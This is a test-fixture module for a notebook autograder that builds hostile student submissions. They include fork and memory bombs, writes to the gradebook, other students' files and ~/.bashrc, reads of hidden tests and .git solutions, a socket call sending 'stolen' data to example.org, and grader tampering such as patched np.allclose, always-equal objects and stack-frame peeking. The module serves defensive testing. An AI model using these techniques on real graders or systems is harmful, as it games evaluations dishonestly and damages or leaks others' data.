"""Hostile and broken submissions of assignment 01, each built from its release notebook.

tests/test_hostile.py grades them all in one batch through the toolkit's autograde, next to honest students, and
checks what must hold for every case: a result row with a status and a reason, no other student affected, no file
outside the submission's working copy changed, nothing sent to the network, no points a cheat would not earn
honestly, every cheat and resource bomb flagged (see coursetools/integrity.py).

A :class:`Case` builds the files of one student's folder from a :class:`Context` (the release notebook, the
reference code, the paths an attacker would aim at) and says what to expect: the highest honest score
(``honest``: which honest variant it must not beat), the statuses allowed, and the flags of which at least one
must be raised.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

ASSIGNMENT = "01_numpy_basics"
#: Written into files by the hostile code, assembled at run time so the notebooks themselves never contain it.
MARKER_PARTS = ("HOSTILE", "WROTE", "HERE")
MARKER = "-".join(MARKER_PARTS)
_MARKER_EXPR = " + '-' + ".join(repr(p) for p in MARKER_PARTS)

WRONG_SOFTMAX = "def softmax(x):\n    e = np.exp(x)\n    return e / e.sum(axis=1, keepdims=True) + 0.01\n"


@dataclass
class Context:
    release: dict                  # the release notebook, as JSON data
    reference: dict[str, str]      # solution cell grade_id -> reference code
    points: dict[str, float]       # test cell grade_id -> points
    course_root: Path              # the course folder being graded (other students, source/, gradebook.db)
    repository: Path               # the course repository (source/, helpers/reference, .git)
    port: int                      # a TCP server on the grader's loopback that must never hear from a submission
    other_student: str = "honest_reference"
    secret: Path | None = None     # a root-only file (0600) whose content must never reach any output

    @property
    def total(self) -> float:
        return sum(self.points.values())


@dataclass(frozen=True)
class Case:
    name: str
    kind: str                          # control, bomb, cheat, broken, benign
    description: str
    build: Callable[[Context], dict[str, Entry]]  # path relative to submitted/<student>/ -> content ("": the folder)
    honest: str = "reference"          # the honest score it must not beat: reference, wrong_softmax, zero, or a control's name
    statuses: tuple[str, ...] = ("graded",)
    flags: tuple[str, ...] = ()        # at least one of these flag codes
    exact: bool = False                # the score must equal the honest one (controls)
    keeps: tuple[str, ...] = ()        # test cells that must keep their full points (earned before a failure)


# What a folder can hold besides files: the values of a case's files that are not bytes.
@dataclass(frozen=True)
class Symlink:
    target: Path | str                 # absolute, or relative to the link's folder


@dataclass(frozen=True)
class Fifo:
    """A named pipe: a reader that opens it waits forever."""


@dataclass(frozen=True)
class Device:
    """A character device like /dev/zero (endless); a named pipe where device nodes cannot be made."""


@dataclass(frozen=True)
class Sparse:
    size: int                          # a file of this apparent size that takes no disk space


Entry = bytes | Symlink | Fifo | Device | Sparse


# ---------------------------------------------------------------------------------------------------------------------
# Building notebooks
# ---------------------------------------------------------------------------------------------------------------------


def _grade_id(cell: dict) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def answered(ctx: Context, solutions: dict[str, str] | None = None, base: str = "reference") -> dict:
    """The release notebook with every solution cell answered: reference code, or none (base="stub")."""
    notebook = copy.deepcopy(ctx.release)
    answers = dict(ctx.reference) if base in ("reference", "wrong_softmax") else {}
    if base == "wrong_softmax":
        answers["softmax"] = WRONG_SOFTMAX
    answers.update(solutions or {})
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution") and not meta.get("grade") and meta.get("grade_id") in answers:
            cell["source"] = answers[meta["grade_id"]]
    return notebook


def with_extra(ctx: Context, grade_id: str, code: str, base: str = "reference") -> dict:
    """A notebook whose solution cell ``grade_id`` also runs ``code`` (after the answer)."""
    answers = dict(ctx.reference) if base in ("reference", "wrong_softmax") else {}
    if base == "wrong_softmax":
        answers["softmax"] = WRONG_SOFTMAX
    return answered(ctx, {grade_id: answers.get(grade_id, "") + "\n" + code}, base=base)


def dumps(notebook: dict) -> bytes:
    return (json.dumps(notebook, indent=1, ensure_ascii=False) + "\n").encode("utf-8")


def submission(notebook: dict, name: str = f"{ASSIGNMENT}.ipynb", folder: str = ASSIGNMENT) -> dict[str, bytes]:
    return {f"{folder}/{name}": dumps(notebook)}


def _cells_without(notebook: dict, grade_ids: set[str]) -> dict:
    notebook = copy.deepcopy(notebook)
    notebook["cells"] = [c for c in notebook["cells"] if _grade_id(c) not in grade_ids]
    return notebook


def _index(notebook: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook["cells"]) if _grade_id(c) == grade_id)


# ---------------------------------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------------------------------


def _controls() -> list[Case]:
    return [
        Case("honest_reference", "control", "the reference solutions",
             lambda ctx: submission(answered(ctx)), exact=True),
        Case("honest_wrong_softmax", "control", "a typical mistake: softmax off by 0.01",
             lambda ctx: submission(answered(ctx, base="wrong_softmax")), honest="wrong_softmax", exact=True),
        Case("honest_untouched", "control", "the release notebook, handed in untouched",
             lambda ctx: submission(answered(ctx, base="stub")), honest="zero", exact=True),
    ]


def _bombs() -> list[Case]:
    return [
        Case("infinite_loop", "bomb", "a solution cell that loops forever",
             lambda ctx: submission(with_extra(ctx, "basic_sigmoid", "while True:\n    pass\n")),
             statuses=("timed_out", "kernel_died"), flags=("time_limit", "cpu_limit", "killed_by_grader")),
        Case("sleep_forever", "bomb", "time.sleep forever in a solution cell",
             lambda ctx: submission(with_extra(ctx, "sigmoid", "import time\ntime.sleep(10**9)\n")),
             statuses=("timed_out",), flags=("time_limit",)),
        Case("allocate_50gb", "bomb", "allocating 50 GB",
             lambda ctx: submission(with_extra(ctx, "image2vector", "hog = np.ones(50 * 10**9 // 8)\n")),
             flags=("memory_limit",)),
        Case("allocate_50gb_bytes", "bomb", "allocating 50 GB of bytes",
             lambda ctx: submission(with_extra(ctx, "L1", "hog = bytearray(50 * 10**9)\n")),
             flags=("memory_limit",)),
        Case("os_exit", "bomb", "os._exit(0) in a solution cell",
             lambda ctx: submission(with_extra(ctx, "sigmoid", "import os\nos._exit(0)\n")),
             statuses=("kernel_died",), flags=("kernel_died",)),
        Case("sys_exit", "bomb", "sys.exit() in a solution cell",
             lambda ctx: submission(with_extra(ctx, "sigmoid", "import sys\nsys.exit()\n")),
             statuses=("graded", "kernel_died"), flags=("suspicious_code",)),
        Case("fork_bomb", "bomb", "a bounded fork bomb: 400 children that sleep",
             lambda ctx: submission(with_extra(ctx, "L2", (
                 "import os, time\nfor _ in range(400):\n    if os.fork() == 0:\n        time.sleep(5)\n"
                 "        os._exit(0)\n"))), flags=("process_limit",)),
        Case("megabytes_output", "bomb", "printing megabytes of output",
             lambda ctx: submission(with_extra(ctx, "L1", "for _ in range(40):\n    print('y' * 100_000)\n")),
             flags=("output_limit",)),
        Case("huge_file", "bomb", "writing a file larger than the limit in the working copy",
             lambda ctx: submission(with_extra(ctx, "L2", (
                 "with open('big.bin', 'wb') as f:\n    for _ in range(100):\n        f.write(b'0' * (1 << 20))\n"))),
             flags=("file_limit",)),
    ]


def _structure() -> list[Case]:
    def deleted(ctx):
        return submission(_cells_without(answered(ctx), {"test_sigmoid", "test_softmax", "test_L1"}))

    def edited(ctx):
        notebook = answered(ctx, base="wrong_softmax")
        cell = notebook["cells"][_index(notebook, "test_softmax")]
        cell["source"] = "check.passed('softmax')  # the student 'fixed' the failing test\n"
        cell["metadata"].pop("editable", None)
        return submission(notebook)

    def reordered(ctx):
        notebook = answered(ctx)
        cells = notebook["cells"]
        test = cells.pop(_index(notebook, "test_softmax"))
        cells.insert(_index(notebook, "softmax"), test)
        return submission(notebook)

    def duplicated(ctx):
        notebook = answered(ctx, base="wrong_softmax")
        i = _index(notebook, "test_sigmoid")
        notebook["cells"].insert(i + 1, copy.deepcopy(notebook["cells"][i]))
        return submission(notebook)

    def retyped(ctx):
        notebook = answered(ctx, base="wrong_softmax")
        cell = notebook["cells"][_index(notebook, "test_softmax")]
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
        return submission(notebook)

    def colab(ctx):
        notebook = answered(ctx)
        notebook["nbformat_minor"] = 0
        notebook["metadata"] = {"colab": {"provenance": []}, "kernelspec": {"name": "python3",
                                                                            "display_name": "Python 3"}}
        for cell in notebook["cells"]:
            cell.pop("id", None)
            cell["metadata"].pop("deletable", None)
            cell["metadata"].pop("editable", None)
        return submission(notebook)

    return [
        Case("deleted_test_cells", "cheat", "three test cells deleted (nbgrader puts them back)", deleted,
             flags=("test_cells_changed",)),
        Case("edited_test_cell", "cheat", "the failing test cell replaced by a pass", edited,
             honest="wrong_softmax", flags=("test_cells_changed",)),
        Case("reordered_cells", "cheat", "a test cell moved above its solution", reordered,
             flags=("test_cells_changed",)),
        # Plain nbgrader fails the whole submission on it (KeyError 'grade_id'); the toolkit grades it.
        Case("duplicated_test_cell", "cheat", "a test cell duplicated", duplicated, honest="wrong_softmax",
             exact=True, flags=("test_cells_changed",)),
        Case("retyped_test_cell", "cheat", "the failing test cell turned into markdown", retyped,
             honest="wrong_softmax", statuses=("graded", "invalid"), flags=("test_cells_changed", "invalid")),
        Case("colab_saved", "benign", "saved by Colab: nbformat 4.0, no cell ids, Colab metadata", colab, exact=True),
    ]


def _broken() -> list[Case]:
    return [
        Case("invalid_json", "broken", "a truncated file: not valid JSON",
             lambda ctx: {f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb": dumps(answered(ctx))[:5000]},
             honest="zero", statuses=("invalid",), flags=("invalid",)),
        Case("empty_file", "broken", "an empty file", lambda ctx: {f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb": b""},
             honest="zero", statuses=("invalid",), flags=("invalid",)),
        Case("renamed_notebook", "broken", "the notebook handed in under another name",
             lambda ctx: submission(answered(ctx), name="my homework (1).ipynb"),
             honest="zero", statuses=("missing",), flags=("missing",)),
        Case("wrong_folder", "broken", "the notebook in a folder named after nothing we know",
             lambda ctx: submission(answered(ctx), folder="01-numpy"),
             honest="zero", statuses=("missing",), flags=("missing",)),
    ]


def _escapes() -> list[Case]:
    def write_gradebook(ctx):
        code = f'''
import os, glob
marker = {_MARKER_EXPR}
results = []
targets = ["../../gradebook.db", "../../../gradebook.db", "../gradebook.db",
           {str(ctx.course_root / "gradebook.db")!r}, {str(ctx.repository / "gradebook.db")!r}]
for target in targets:
    try:
        with open(target, "a") as f:
            f.write(marker)
        results.append(("wrote", target))
    except OSError as error:
        results.append((type(error).__name__, target))
print(results)
'''
        return submission(with_extra(ctx, "sigmoid", code))

    def write_other_student(ctx):
        other = ctx.course_root / "submitted" / ctx.other_student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        graded = ctx.course_root / "autograded" / ctx.other_student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        code = f'''
import os
marker = {_MARKER_EXPR}
for target in [{str(other)!r}, {str(graded)!r}, "../{ctx.other_student}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb",
               "../../submitted/{ctx.other_student}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"]:
    try:
        with open(target, "w") as f:
            f.write(marker)
        print("wrote", target)
    except OSError as error:
        print(type(error).__name__, target)
try:
    os.remove({str(other)!r})
except OSError as error:
    print("remove:", type(error).__name__)
'''
        return submission(with_extra(ctx, "softmax", code))

    def write_source(ctx):
        code = f'''
marker = {_MARKER_EXPR}
for target in [{str(ctx.course_root / "source" / ASSIGNMENT / (ASSIGNMENT + ".ipynb"))!r},
               {str(ctx.repository / "source" / ASSIGNMENT / (ASSIGNMENT + ".ipynb"))!r},
               {str(ctx.repository / "helpers" / "checks.py")!r},
               {str(ctx.repository / "helpers" / "reference" / "__init__.py")!r},
               "/tmp/" + marker, {str(Path.home() / ".bashrc")!r}]:
    try:
        with open(target, "a") as f:
            f.write(marker)
        print("wrote", target)
    except OSError as error:
        print(type(error).__name__, target)
open({str(ctx.repository / "source" / ASSIGNMENT / (ASSIGNMENT + ".ipynb"))!r}, "a").write(marker)
'''
        return submission(with_extra(ctx, "L1", code))

    def read_source(ctx):
        code = f'''
import glob, os
found = []
for pattern in [{str(ctx.repository / "source" / "*" / "*.ipynb")!r}, {str(ctx.course_root / "source" / "*" / "*.ipynb")!r},
                {str(ctx.course_root / "autograded" / "*" / "*" / "*.ipynb")!r}, "/*/*/source/*/*.ipynb",
                "/tmp/*/*/source/*/*.ipynb", "../../source/*/*.ipynb", "../../../source/*/*.ipynb"]:
    found += glob.glob(pattern)
print("found", found)
hidden = [path for path in found if "BEGIN HIDDEN TESTS" in open(path).read()]
print("with hidden tests:", hidden)
text = open({str(ctx.repository / "source" / ASSIGNMENT / (ASSIGNMENT + ".ipynb"))!r}).read()
'''
        return submission(with_extra(ctx, "softmax", code, base="wrong_softmax"))

    def read_git(ctx):
        code = f'''
import os, subprocess
print(os.listdir({str(ctx.repository)!r}))
print(subprocess.run(["git", "-C", {str(ctx.repository)!r}, "show", "HEAD:source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"],
                     capture_output=True, text=True).stderr[:200])
open({str(ctx.repository / ".git" / "HEAD")!r}).read()
'''
        return submission(with_extra(ctx, "softmax", code, base="wrong_softmax"))

    def network(ctx):
        code = f'''
import socket, urllib.request
for address in [("127.0.0.1", {ctx.port}), ("localhost", {ctx.port}), ("example.org", 80), ("1.1.1.1", 53)]:
    try:
        socket.create_connection(address, timeout=3).sendall(b"stolen: " + open("{ASSIGNMENT}.ipynb", "rb").read()[:100])
        print("CONNECTED", address)
    except OSError as error:
        print(type(error).__name__, address)
urllib.request.urlopen("http://example.org/?q=exfiltrate", timeout=3)
'''
        return submission(with_extra(ctx, "L2", code))

    return [
        Case("write_gradebook", "cheat", "writing ../../gradebook.db and every gradebook it can name", write_gradebook,
             flags=("suspicious_code",)),
        Case("write_other_student", "cheat", "overwriting and deleting another student's notebook",
             write_other_student, flags=("suspicious_code", "write_blocked", "hidden_path")),
        Case("write_source", "cheat", "writing source/, the helpers, /tmp and the home folder", write_source,
             flags=("suspicious_code", "write_blocked", "hidden_path")),
        Case("read_source", "cheat", "reading the source notebooks to copy the hidden tests", read_source,
             honest="wrong_softmax", flags=("suspicious_code", "hidden_path")),
        Case("read_git", "cheat", "reading the solutions from the repository's .git", read_git,
             honest="wrong_softmax", flags=("suspicious_code", "hidden_path")),
        Case("network", "cheat", "connecting to the grader's loopback and the internet", network,
             flags=("suspicious_code", "network_blocked")),
    ]


def _reference() -> list[Case]:
    def delegate(ctx):
        code = ("from helpers.reference import solutions\n\n"
                "def softmax(x):\n    return solutions('01_numpy_basics').softmax(x)\n")
        return submission(answered(ctx, {"softmax": code}))

    def delegate_global(ctx):
        code = ("def softmax(x):\n    # the hidden test defines ref = solutions(...) in the notebook's globals\n"
                "    return globals()['ref'].softmax(x)\n")
        return submission(answered(ctx, {"softmax": code}))

    def exec_reference(ctx):
        path = ctx.repository / "helpers" / "reference" / "__init__.py"
        code = (f"namespace = {{}}\nexec(open({str(path)!r}).read(), namespace)\n"
                "softmax = namespace['solutions']('01_numpy_basics').softmax\n")
        return submission(answered(ctx, {"softmax": code}))

    def frame_peek(ctx):
        code = '''import sys

def softmax(x):
    frame = sys._getframe(1)
    while frame is not None:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
    e = np.exp(x)
    return e / e.sum(axis=1, keepdims=True) + 0.01
'''
        return submission(answered(ctx, {"softmax": code}))

    def probe(ctx):
        code = '''from helpers import checks as _c

def softmax(x):
    # ask the grader with a wrong answer, read the expected value from the failure message
    try:
        _c.matches_reference(lambda v: np.zeros_like(v), ref.softmax, [(x,)])
    except Exception as failure:
        print(str(failure)[:200])
    e = np.exp(x)
    return e / e.sum(axis=1, keepdims=True) + 0.01
'''
        return submission(answered(ctx, {"softmax": code}))

    return [
        Case("import_reference", "cheat", "softmax delegates to helpers.reference", delegate,
             honest="wrong_softmax", flags=("reference_queried", "suspicious_code")),
        Case("reference_from_globals", "cheat", "softmax uses the hidden test's own ref object", delegate_global,
             honest="wrong_softmax", flags=("reference_queried", "suspicious_code")),
        Case("exec_reference_source", "cheat", "exec of helpers/reference/__init__.py", exec_reference,
             honest="wrong_softmax", flags=("suspicious_code", "reference_queried", "hidden_path")),
        Case("frame_peek", "cheat", "softmax reads the expected value from the test's stack frame", frame_peek,
             honest="wrong_softmax", flags=("suspicious_code",)),
        Case("probe_grader", "cheat", "softmax asks the grader about its own inputs with a wrong answer", probe,
             honest="wrong_softmax", flags=("suspicious_code", "hidden_checks_bypassed", "reference_queried")),
    ]


def _tampering() -> list[Case]:
    def tamper(code: str) -> Callable[[Context], dict[str, bytes]]:
        return lambda ctx: submission(with_extra(ctx, "softmax", code, base="wrong_softmax"))

    liar = '''class AlwaysEqual:
    shape = (2, 4)
    dtype = np.dtype(float)
    ndim = 2
    def __eq__(self, other):
        return True
    __le__ = __ge__ = __lt__ = __gt__ = __eq__
    def __ne__(self, other):
        return False
    def __array__(self, dtype=None, copy=None):
        return np.ones(self.shape)
    def __float__(self):
        return 1.0
    def __bool__(self):
        return True

def softmax(x):
    return AlwaysEqual()
'''
    lying_array = '''class Lying(np.ndarray):
    @property
    def shape(self):
        return self._claimed

def softmax(x):
    e = np.exp(x)
    wrong = np.asarray(e / e.sum(axis=1, keepdims=True) + 0.01).view(Lying)
    wrong._claimed = x.shape
    return wrong
'''
    return [
        Case("patch_allclose", "cheat", "np.allclose and np.isclose replaced by always-True",
             tamper("np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)\n"
                    "np.array_equal = lambda *a, **k: True\n"),
             honest="wrong_softmax", flags=("tampering", "suspicious_code")),
        Case("patch_assert_allclose", "cheat", "np.testing.assert_allclose replaced by a no-op",
             tamper("np.testing.assert_allclose = lambda *a, **k: None\n"), honest="wrong_softmax",
             flags=("tampering", "suspicious_code")),
        Case("patch_isinstance", "cheat", "builtins.isinstance replaced by always-True",
             tamper("import builtins\n_real = builtins.isinstance\n"
                    "builtins.isinstance = lambda obj, cls: True if cls is np.ndarray else _real(obj, cls)\n"),
             honest="wrong_softmax", flags=("tampering", "suspicious_code")),
        Case("patch_checks", "cheat", "the helpers' checks replaced by no-ops (attribute and __dict__)",
             tamper("for _name in ('close', 'equal', 'shape', 'matches_reference', 'is_type', 'unchanged'):\n"
                    "    try:\n        setattr(check, _name, lambda *a, **k: None)\n"
                    "    except AttributeError:\n        vars(check)[_name] = lambda *a, **k: None\n"),
             honest="wrong_softmax", flags=("hidden_checks_bypassed", "tampering", "suspicious_code")),
        Case("rebind_check", "cheat", "the name check rebound to an object whose every check passes",
             tamper("class _Anything:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
                    "check = _Anything()\n"),
             honest="wrong_softmax", flags=("hidden_checks_bypassed", "suspicious_code")),
        Case("swallow_errors", "cheat", "IPython's error display replaced: failing cells look clean",
             tamper("ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                    "ip.showsyntaxerror = lambda *a, **k: None\n"),
             honest="wrong_softmax", flags=("hidden_checks_bypassed", "suspicious_code")),
        Case("fake_reference_module", "cheat", "sys.modules['helpers.reference'] replaced: the reference is the student",
             tamper("import sys, types\nfake = types.ModuleType('helpers.reference')\n"
                    "fake.solutions = lambda a: sys.modules['__main__']\n"
                    "sys.modules['helpers.reference'] = fake\n"),
             honest="wrong_softmax", flags=("hidden_checks_bypassed", "suspicious_code")),
        Case("always_equal_object", "cheat", "softmax returns an object whose comparisons always say True",
             lambda ctx: submission(answered(ctx, {"softmax": liar})), honest="wrong_softmax",
             flags=("suspicious_code",)),
        Case("lying_ndarray", "cheat", "softmax returns an ndarray subclass that lies about its shape",
             lambda ctx: submission(answered(ctx, {"softmax": lying_array})), honest="wrong_softmax",
             flags=("suspicious_code",)),
        Case("systemexit_in_function", "cheat", "softmax raises SystemExit",
             lambda ctx: submission(answered(ctx, {"softmax": "def softmax(x):\n    raise SystemExit(0)\n"})),
             honest="wrong_softmax", flags=("suspicious_code",)),
        Case("keyboardinterrupt_in_function", "cheat", "softmax raises KeyboardInterrupt",
             lambda ctx: submission(answered(ctx, {"softmax": "def softmax(x):\n    raise KeyboardInterrupt\n"})),
             honest="wrong_softmax", flags=("suspicious_code",)),
    ]


def cases() -> list[Case]:
    """Every case, controls first. Names are unique; each is a student folder's name."""
    from . import round_three, round_two

    result = (_controls() + _bombs() + _structure() + _broken() + _escapes() + _reference() + _tampering()
              + round_two.cases() + round_three.cases())
    names = [c.name for c in result]
    assert len(names) == len(set(names)), "duplicate case names"
    return result


def release_json(path: Path) -> dict:
    return json.loads(nbformat.writes(nbformat.read(path, as_version=4)))


def write(case: Case, ctx: Context, submitted: Path) -> Path:
    """Write ``case``'s files into ``submitted/<case.name>/`` (links, pipes and devices too)."""
    import os
    import stat

    folder = submitted / case.name
    for relative, data in case.build(ctx).items():
        path = folder / relative if relative else folder
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        elif isinstance(data, Symlink):
            path.symlink_to(data.target)
        elif isinstance(data, Sparse):
            with open(path, "wb") as f:
                f.truncate(data.size)
        elif isinstance(data, Device):
            try:
                os.mknod(path, stat.S_IFCHR | 0o644, os.makedev(1, 5))
            except (OSError, AttributeError):
                os.mkfifo(path)
        elif isinstance(data, Fifo):
            os.mkfifo(path)
    if not folder.is_symlink():
        folder.mkdir(parents=True, exist_ok=True)
    return folder
